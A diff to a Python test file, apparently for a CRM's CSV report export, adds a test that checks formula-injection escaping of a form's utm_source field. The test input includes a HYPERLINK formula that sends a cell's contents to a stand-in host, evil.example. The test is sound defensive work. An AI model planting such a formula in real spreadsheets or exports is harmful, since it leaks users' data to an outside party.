@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime, timedelta
 
 import pytest
@@ -169,3 +171,16 @@ def test_csv_has_one_row_per_item_and_the_field_names_as_header() -> None:
     lines = text.strip().splitlines()
     assert lines[0] == "stage_id,name,entered,moved_on,conversion"
     assert len(lines) == 4 and lines[1].startswith("s1,New,4,3,0.75")
+
+
+def test_sources_csv_escapes_a_formula_from_an_anonymous_forms_utm_source() -> None:
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    contacts = [
+        {"_id": "c1", "source": {"kind": "form", "utm_source": evil}, "created_at": h(0)},
+        {"_id": "c2", "source": {"kind": "form", "utm_source": "@SUM(1+1)"}, "created_at": h(0)},
+        {"_id": "c3", "source": {"kind": "form", "utm_source": "-2+3"}, "created_at": h(0)},
+    ]
+    text = to_csv(reports.sources(contacts, [], [], None, None), "items")
+    table = list(csv.DictReader(io.StringIO(text)))
+    assert {row["source"] for row in table} == {"'" + evil, "'@SUM(1+1)", "-2+3"}
+    assert all(not row["source"].startswith(("=", "@")) for row in table)
